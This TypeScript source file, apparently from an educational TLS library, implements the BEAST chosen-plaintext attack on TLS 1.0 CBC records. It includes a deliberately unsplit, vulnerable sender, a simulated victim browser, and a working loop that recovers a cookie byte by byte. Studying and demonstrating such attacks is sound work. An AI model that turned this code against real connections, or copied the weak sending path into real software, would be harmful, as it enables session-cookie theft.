/**
 * BEAST (Duong and Rizzo 2011; the idea is Rogaway's of 1995 and Bard's of 2004). Up to TLS 1.0 the IV of a record is the last block of
 * the record before, so the attacker knows it before she chooses what the victim encrypts next. With a chosen block she repeats a block of
 * the past: if her guess of its plaintext is right, the same ciphertext appears. Sixteen positions in a block, one unknown byte at a time: 256 guesses
 * a byte instead of 2^128.
 */

import { concat, concatAll } from '@cleartext/core';
import type { TlsState } from '../connection/state.ts';
import { canSend, step, type TlsStep } from '../connection/step.ts';
import { flush, newTurn, sendRecord } from '../connection/turn.ts';
import { CONTENT_TYPE } from '../record/record.ts';
import { recordsIn } from './recording.ts';

/** A browser of 2011 on one connection: the attacker's page makes it send requests, and their cookie is what she wants. */
export interface BeastVictim {
  /** Sends a request whose path the attacker chose. The bytes on the wire. */
  readonly request: (path: Uint8Array) => Uint8Array;
  /** Sends more bytes of the attacker on the same connection. The bytes on the wire. */
  readonly append: (chosen: Uint8Array) => Uint8Array;
}

/** Sends data in one record, as clients did before the 1/n-1 split: the named weakness of this file. */
export function sendWithoutSplitting(state: TlsState, plaintext: Uint8Array): TlsStep {
  if (!canSend(state)) throw new RangeError(`state: expected CONNECTED, found ${state.kind}`);
  const turn = newTurn();
  const next = flush(sendRecord(state, CONTENT_TYPE.application_data, plaintext, turn), turn);
  return { state: next, send: concatAll(turn.sent), events: turn.events };
}

/** Sends data as this package does it. */
export function sendAsAlways(state: TlsState, plaintext: Uint8Array): TlsStep {
  return step(state, { type: 'send', plaintext });
}

/** A victim that sends `prefix`, the path, `suffix` and the secret in each request, with the given way of sending. */
export function beastVictim(
  connected: TlsState,
  send: (state: TlsState, plaintext: Uint8Array) => TlsStep,
  { prefix, suffix, secret }: { readonly prefix: Uint8Array; readonly suffix: Uint8Array; readonly secret: Uint8Array },
): BeastVictim {
  let state = connected;
  const put = (plaintext: Uint8Array): Uint8Array => {
    const sent = send(state, plaintext);
    ({ state } = sent);
    return sent.send;
  };
  return { request: (path) => put(concat(prefix, path, suffix, secret, CRLF)), append: put };
}

const CRLF = Uint8Array.of(13, 10);
const BLOCK = 16;

/** What the attacker learned, and from how many chosen blocks. */
export interface BeastResult {
  /** As many bytes of the secret as she found. */
  readonly secret: Uint8Array;
  readonly questions: number;
}

/**
 * The attack: `known` is the part of a request around the path that she knows, `alphabet` the bytes she tries. It ends at a byte that is not
 * in the alphabet, such as the CR at the end of the cookie.
 */
export function beast(
  victim: BeastVictim,
  { prefix, suffix }: { readonly prefix: Uint8Array; readonly suffix: Uint8Array },
  alphabet: Uint8Array,
): BeastResult {
  let found: Uint8Array = new Uint8Array(0);
  let questions = 0;
  for (;;) {
    // The path is as long as it has to be for the next byte of the secret to be the last of a block.
    const fixed = prefix.length + suffix.length + found.length + 1;
    const path = new Uint8Array(((BLOCK - (fixed % BLOCK)) % BLOCK) + BLOCK).fill(0x41);
    const before = concat(prefix, path, suffix, found);
    const position = before.length + 1 - BLOCK;
    const record = lastRecord(victim.request(path));
    const target = record.slice(position, position + BLOCK);
    const previous = record.slice(position - BLOCK, position);
    let iv = record.slice(-BLOCK);
    let byte: number | undefined;
    for (const guess of alphabet) {
      const block = concat(before.slice(position), Uint8Array.of(guess));
      // The IV cancels out, and what enters the cipher is block xor previous, as in the target.
      const sent = lastRecord(victim.append(xor(xor(block, previous), iv)));
      questions++;
      iv = sent.slice(-BLOCK);
      if (equal(sent.slice(0, BLOCK), target)) {
        byte = guess;
        break;
      }
    }
    if (byte === undefined) return { secret: found, questions };
    found = concat(found, Uint8Array.of(byte));
  }
}

function lastRecord(bytes: Uint8Array): Uint8Array {
  return recordsIn(bytes).at(-1)?.fragment ?? new Uint8Array(0);
}

function xor(x: Uint8Array, y: Uint8Array): Uint8Array {
  return x.map((byte, i) => byte ^ y[i]);
}

function equal(x: Uint8Array, y: Uint8Array): boolean {
  return x.every((byte, i) => byte === y[i]);
}
